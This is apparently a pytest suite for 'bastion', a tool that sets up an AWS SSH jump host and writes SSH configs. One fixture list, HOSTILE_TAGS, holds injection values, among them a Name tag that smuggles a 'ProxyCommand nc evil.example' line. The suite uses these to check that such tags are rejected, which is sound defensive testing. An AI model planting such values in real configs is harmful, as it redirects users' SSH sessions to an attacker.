"""`ssh-config`, `ssh` and `up --restrict-forwarding` against moto; `ssh -G` reads the result."""

from __future__ import annotations

import base64
import json
import shutil
import subprocess
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from bastion.adapters.keys import fingerprint
from bastion.domain.errors import ExitStatus, NotFoundError, UsageError
from bastion.usecases.access import SshConfigOptions, ssh_config
from bastion.usecases.up import up
from bastion.wiring import Deps
from tests.aws.conftest import CallCounter, make_settings
from tests.cli.conftest import invoke
from tests.support import require

ALLOW = ("203.0.113.7/32",)


@dataclass
class RecordingReporter:
    steps: list[str] = field(default_factory=list)
    warnings: list[str] = field(default_factory=list)

    def step(self, message: str) -> None:
        self.steps.append(message)

    def wait(self, message: str) -> None:
        pass

    def warn(self, message: str) -> None:
        self.warnings.append(message)


def launch_app(ec2_client: Any, group_id: str, name: str | None, running: bool = True) -> str:
    image = ec2_client.describe_images()["Images"][0]["ImageId"]
    tags = [{"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": name}]}] if name else []
    instance = ec2_client.run_instances(
        ImageId=image, MinCount=1, MaxCount=1, SecurityGroupIds=[group_id], TagSpecifications=tags
    )["Instances"][0]
    if not running:
        ec2_client.stop_instances(InstanceIds=[instance["InstanceId"]])
    return str(instance["InstanceId"])


def private_ip(ec2_client: Any, instance_id: str) -> str:
    reservations = ec2_client.describe_instances(InstanceIds=[instance_id])["Reservations"]
    return str(reservations[0]["Instances"][0]["PrivateIpAddress"])


def gateway_instance(ec2_client: Any) -> dict[str, Any]:
    reservations = ec2_client.describe_instances(
        Filters=[
            {"Name": "tag:bastion:role", "Values": ["gateway"]},
            {"Name": "instance-state-name", "Values": ["running"]},
        ]
    )["Reservations"]
    return dict(reservations[0]["Instances"][0])


def user_data(ec2_client: Any, instance_id: str) -> str:
    reply = ec2_client.describe_instance_attribute(InstanceId=instance_id, Attribute="userData")
    return base64.b64decode(reply["UserData"]["Value"]).decode()


def ssh_g(config: Path, alias: str) -> dict[str, str]:
    ssh = shutil.which("ssh")
    require(ssh is not None, "the OpenSSH client `ssh` is missing; install openssh-client")
    assert ssh is not None
    out = subprocess.run(
        [ssh, "-F", str(config), "-G", alias], capture_output=True, text=True, check=True
    ).stdout
    return dict(line.split(" ", 1) for line in out.splitlines() if " " in line)


def test_app_hosts_are_the_running_members_of_the_app_group_by_name(
    deps: Deps, app_sg: str, ec2_client: Any, counter: CallCounter
) -> None:
    running = launch_app(ec2_client, app_sg, "app-1")
    launch_app(ec2_client, app_sg, "app-2", running=False)
    launch_app(ec2_client, app_sg, None)
    settings = make_settings(allow=ALLOW, app_sg=app_sg)
    up(settings, deps)
    counter.reset()

    result = ssh_config(settings, deps)

    names = sorted(h.name or "" for h in result.config.app_hosts)
    assert names == ["", "app-1"]
    block = f"Host app-1.default.bastion {running}.default.bastion\n"
    assert f"{block}    HostName {private_ip(ec2_client, running)}\n" in result.text
    gateway = gateway_instance(ec2_client)
    assert f"    HostName {gateway['PublicIpAddress']}\n    Port 62222\n" in result.text
    assert "Host 172.31.*\n    ProxyJump bastion-default\n" in result.text
    assert counter.calls["DescribeInstances"] == 2  # the gateway, then the app group: no per-host
    assert counter.mutating == {}


def test_up_after_a_relaunch_rewrites_the_written_config_with_the_new_address(
    deps: Deps, app_sg: str, ec2_client: Any
) -> None:
    launch_app(ec2_client, app_sg, "app-1")
    settings = make_settings(allow=ALLOW, app_sg=app_sg)
    up(settings, deps)
    written = ssh_config(settings, deps, SshConfigOptions(app_user="ec2-user"), write=True)
    assert written.path is not None
    old = gateway_instance(ec2_client)
    ec2_client.terminate_instances(InstanceIds=[old["InstanceId"]])
    reporter = RecordingReporter()
    deps.reporter = reporter

    result = up(settings, deps)

    new = gateway_instance(ec2_client)
    assert new["PublicIpAddress"] != old["PublicIpAddress"]
    assert result.ssh_config == str(written.path)
    assert any(f"ssh config {written.path} updated" in s for s in reporter.steps)
    gateway = ssh_g(written.path, "bastion-default")
    assert gateway["hostname"] == new["PublicIpAddress"]
    known_hosts = Path(gateway["userknownhostsfile"]).read_text().split()
    assert known_hosts[0] == "bastion-default"
    assert fingerprint(" ".join(known_hosts[1:3])) == new_host_key_fingerprint(new)
    app = ssh_g(written.path, "app-1.default.bastion")
    assert (app["proxyjump"], app["user"]) == ("bastion-default", "ec2-user")


def new_host_key_fingerprint(instance: dict[str, Any]) -> str:
    tags = {t["Key"]: t["Value"] for t in instance["Tags"]}
    return tags["bastion:host-key-fingerprint"]


def test_up_leaves_ssh_alone_when_no_config_was_written(deps: Deps, app_sg: str) -> None:
    result = up(make_settings(allow=ALLOW, app_sg=app_sg), deps)
    assert result.ssh_config is None
    assert not (Path.home() / ".ssh").exists()


def test_ssh_config_without_a_gateway_says_run_up(deps: Deps) -> None:
    with pytest.raises(NotFoundError, match="bastion up"):
        ssh_config(make_settings(), deps)


def test_restrict_forwarding_permits_the_app_hosts_ssh_port_only(
    deps: Deps, app_sg: str, ec2_client: Any
) -> None:
    first = private_ip(ec2_client, launch_app(ec2_client, app_sg, "app-1"))
    second = private_ip(ec2_client, launch_app(ec2_client, app_sg, "app-2"))
    up(make_settings(allow=ALLOW, app_sg=app_sg, restrict_forwarding=True), deps)
    text = user_data(ec2_client, gateway_instance(ec2_client)["InstanceId"])
    targets = sorted([f"{first}:22", f"{second}:22"])
    assert [line.split()[1:] for line in text.splitlines() if "PermitOpen" in line.split()[:1]] == [
        sorted(targets, key=lambda t: tuple(int(p) for p in t[:-3].split(".")))
    ]


def test_restrict_forwarding_warns_about_app_hosts_added_after_launch(
    deps: Deps, app_sg: str, ec2_client: Any
) -> None:
    launch_app(ec2_client, app_sg, "app-1")
    settings = make_settings(allow=ALLOW, app_sg=app_sg, restrict_forwarding=True)
    up(settings, deps)
    late = private_ip(ec2_client, launch_app(ec2_client, app_sg, "app-late"))
    reporter = RecordingReporter()
    deps.reporter = reporter
    up(settings, deps)
    assert any(
        f"so {late}:22 cannot be reached; the new list takes effect only at a relaunch" in w
        for w in reporter.warnings
    )


@pytest.mark.parametrize("app_hosts", [False, True])
def test_restrict_forwarding_without_known_app_hosts_changes_nothing(
    deps: Deps, app_sg: str, counter: CallCounter, app_hosts: bool
) -> None:
    settings = make_settings(
        allow=ALLOW, app_sg=app_sg if app_hosts else None, restrict_forwarding=True
    )
    with pytest.raises(UsageError, match="--restrict-forwarding"):
        up(settings, deps)
    assert counter.mutating == {}


# --- the CLI ---------------------------------------------------------------------------------


@pytest.fixture
def runner() -> CliRunner:
    return CliRunner()


@pytest.fixture
def execs(deps: Deps) -> list[list[str]]:
    calls: list[list[str]] = []
    deps.execvp = lambda file, args: calls.append([file, *args[1:]])
    return calls


def test_ssh_config_write_twice_installs_once_and_reports(
    runner: CliRunner, deps: Deps, app_sg: str, ec2_client: Any
) -> None:
    launch_app(ec2_client, app_sg, "app-1")
    assert invoke(runner, deps, "up", "--allow", ALLOW[0], "--app-sg", app_sg).exit_code == 0
    first = invoke(runner, deps, "ssh-config", "--write", "--app-sg", app_sg)
    second = invoke(runner, deps, "ssh-config", "--write", "--app-sg", app_sg, "--json")
    assert first.exit_code == 0, first.stderr
    assert "Include line added at the top" in first.stdout
    assert "Try: ssh app-1.default.bastion" in first.stdout
    data = json.loads(second.stdout)
    assert (data["changed"], data["include_added"]) == (False, False)
    assert [h["aliases"][0] for h in data["hosts"]] == ["app-1.default.bastion"]
    user_config = (Path.home() / ".ssh" / "config").read_text()
    assert user_config.count("Include ") == 1
    printed = invoke(runner, deps, "ssh-config", "--app-sg", app_sg)
    assert printed.stdout == Path(data["written"]).read_text()


def test_bastion_ssh_execs_ssh_with_the_generated_config(
    runner: CliRunner, deps: Deps, app_sg: str, ec2_client: Any, execs: list[list[str]]
) -> None:
    launch_app(ec2_client, app_sg, "app-1")
    assert invoke(runner, deps, "up", "--allow", ALLOW[0], "--app-sg", app_sg).exit_code == 0
    to_app = invoke(runner, deps, "ssh", "--app-sg", app_sg, "app-1", "--", "-v", "uptime")
    to_gateway = invoke(runner, deps, "ssh")
    assert to_app.exit_code == 0 and to_gateway.exit_code == 0, to_app.stderr + to_gateway.stderr
    config = Path(execs[0][2])
    # The short name maps to its alias in the gateway's namespace.
    assert execs[0][1] == "-F" and execs[0][3:] == ["app-1.default.bastion", "-v", "uptime"]
    assert execs[1][3] == "-N" and execs[1][-1] == "bastion-default"
    assert "PermitLocalCommand=yes" in execs[1]
    notice = next(a for a in execs[1] if a.startswith("LocalCommand="))
    assert "connected to bastion-default" in notice and "forwarding only" in notice
    assert "Ctrl-C" in notice and notice.endswith(">&2")
    assert "Host app-1.default.bastion " in config.read_text()
    assert execs[0][0].endswith("/ssh")


@pytest.mark.parametrize(
    ("args", "status", "needle"),
    [
        (["ssh-config"], ExitStatus.NOT_FOUND, "run `bastion up`"),
        (["ssh-config", "--hosts", "*"], ExitStatus.USAGE, "--hosts"),
        (["ssh-config", "--hosts", "?*"], ExitStatus.USAGE, "no literal network prefix"),
        (["ssh-config", "--hosts", "*.com"], ExitStatus.USAGE, "no literal network prefix"),
        (["ssh-config", "--app-user", "bad user"], ExitStatus.USAGE, "--app-user"),
        (["ssh-config", "--app-identity", "/nonexistent"], ExitStatus.USAGE, "--app-identity"),
        (["ssh", "app 1"], ExitStatus.USAGE, "not a host"),
    ],
)
def test_ssh_commands_fail_in_one_line(
    runner: CliRunner, deps: Deps, execs: list[list[str]], args: list[str], status: int, needle: str
) -> None:
    result = invoke(runner, deps, *args)
    assert result.exit_code == status, result.stderr
    lines = [line for line in result.stderr.splitlines() if line.startswith("bastion: error:")]
    assert len(lines) == 1 and needle in lines[0]
    assert execs == []


def test_burn_rewrites_the_written_config_for_the_new_gateway(
    deps: Deps, app_sg: str, ec2_client: Any
) -> None:
    from bastion.usecases.burn import burn

    require(shutil.which("ssh") is not None, "the OpenSSH client `ssh` is missing")
    settings = make_settings(allow=ALLOW, app_sg=app_sg)
    up(settings, deps)
    written = ssh_config(settings, deps, SshConfigOptions(), write=True)
    assert written.path is not None
    old = gateway_instance(ec2_client)

    burn(settings, deps, reason="compromised")

    new = gateway_instance(ec2_client)
    assert new["InstanceId"] != old["InstanceId"]
    gateway = ssh_g(written.path, "bastion-default")
    assert gateway["hostname"] == new["PublicIpAddress"]
    assert gateway["stricthostkeychecking"] == "true"
    known_hosts = Path(gateway["userknownhostsfile"]).read_text().split()
    assert fingerprint(" ".join(known_hosts[1:3])) == new_host_key_fingerprint(new)
    assert Path(gateway["identityfile"]).exists()


def test_down_removes_the_written_config(deps: Deps, app_sg: str) -> None:
    from bastion.usecases.down import down

    settings = make_settings(allow=ALLOW, app_sg=app_sg)
    up(settings, deps)
    written = ssh_config(settings, deps, SshConfigOptions(), write=True)
    assert written.path is not None and written.path.exists()

    down(settings, deps)

    assert not written.path.exists()


def test_app_hosts_whose_console_shows_a_key_are_pinned_strictly_the_rest_named_in_one_warning(
    deps: Deps, ec2_client: Any, app_sg: str, consoles: Any
) -> None:
    from bastion.usecases.burn import burn

    up(make_settings(app_sg=app_sg, allow=ALLOW), deps)
    shown = launch_app(ec2_client, app_sg, "app-1")
    silent = launch_app(ec2_client, app_sg, "app-2")
    consoles.texts[silent] = "Booting...\n"  # its console never printed a key
    reporter = RecordingReporter()
    deps.reporter = reporter
    settings = make_settings(app_sg=app_sg)

    result = ssh_config(settings, deps, write=True)

    folder = settings.gateway_dir("us-east-1")
    pins = (folder / "app_known_hosts").read_text()
    assert pins == f"{shown} {consoles.keys[shown]}\n"
    blocks = {b.split("\n", 1)[0]: b for b in result.text.split("\n\n")}
    strict = blocks[f"Host app-1.default.bastion {shown}.default.bastion"]
    assert f"HostKeyAlias {shown}" in strict and "StrictHostKeyChecking yes" in strict
    loose = blocks[f"Host app-2.default.bastion {silent}.default.bastion"]
    assert "StrictHostKeyChecking accept-new" in loose and "HostKeyAlias" not in loose
    unpinned = [w for w in reporter.warnings if "shows no host key" in w]
    assert len(unpinned) == 1 and silent in unpinned[0] and shown not in unpinned[0]

    burn(settings, deps, reason="app pins survive")

    assert (folder / "app_known_hosts").read_text() == pins


# --- hostile Name tags: none captures a name of the operator's own config -------------------

HOSTILE_TAGS = (
    "github.com", "*", "?*", "10.0.1.5", "web 2", "work", "100%h", 'say "hi"',
    "x\n    ProxyCommand nc evil.example 22",
)  # fmt: skip


def test_hostile_name_tags_become_no_host_block_that_captures_a_name_in_real_ssh(
    deps: Deps, app_sg: str, ec2_client: Any
) -> None:
    ssh_dir = Path.home() / ".ssh"
    ssh_dir.mkdir(mode=0o700)
    (ssh_dir / "config").write_text("Host work\n    HostName work.example.com\n")
    victim = launch_app(ec2_client, app_sg, "app-1")
    ids = {name: launch_app(ec2_client, app_sg, name) for name in HOSTILE_TAGS}
    ids[victim] = launch_app(ec2_client, app_sg, victim)  # a Name tag that is another's id
    settings = make_settings(allow=ALLOW, app_sg=app_sg)
    up(settings, deps)
    reporter = RecordingReporter()
    deps.reporter = reporter

    ssh_config(settings, deps, write=True)

    user_config = ssh_dir / "config"
    assert user_config.read_text().startswith("Include ")
    for name in ("github.com", "work", "10.0.1.5", victim, "web-2", "web", "evil.example"):
        assert "proxyjump" not in ssh_g(user_config, name), name
    assert ssh_g(user_config, "work")["hostname"] == "work.example.com"
    assert ssh_g(user_config, f"{victim}.default.bastion")["hostname"] == private_ip(
        ec2_client, victim
    )
    github = ssh_g(user_config, "github.com.default.bastion")
    assert (github["proxyjump"], github["hostname"]) == (
        "bastion-default",
        private_ip(ec2_client, ids["github.com"]),
    )
    refused = [w for w in reporter.warnings if w.startswith("app host names left out")]
    assert len(refused) == 1 and "\n" not in refused[0]
    for name in ("*", "?*", "10.0.1.5", "web 2", "work", "100%h", victim):
        assert f"{name!r} on {ids[name]}" in refused[0], name
    assert "'work' on " + ids["work"] + " (named in ~/.ssh/config line 1)" in refused[0]
    assert "'github.com'" not in refused[0]


def test_bastion_ssh_reaches_an_app_host_by_its_short_name_or_instance_id(
    runner: CliRunner, deps: Deps, app_sg: str, ec2_client: Any, execs: list[list[str]]
) -> None:
    app = launch_app(ec2_client, app_sg, "app-1")
    assert invoke(runner, deps, "up", "--allow", ALLOW[0], "--app-sg", app_sg).exit_code == 0
    for target in ("app-1", app, "app-1.default.bastion", "172.31.0.9"):
        assert invoke(runner, deps, "ssh", "--app-sg", app_sg, target).exit_code == 0
    mapped = [call[3] for call in execs]
    assert mapped == [
        "app-1.default.bastion",
        f"{app}.default.bastion",
        "app-1.default.bastion",
        "172.31.0.9",
    ]
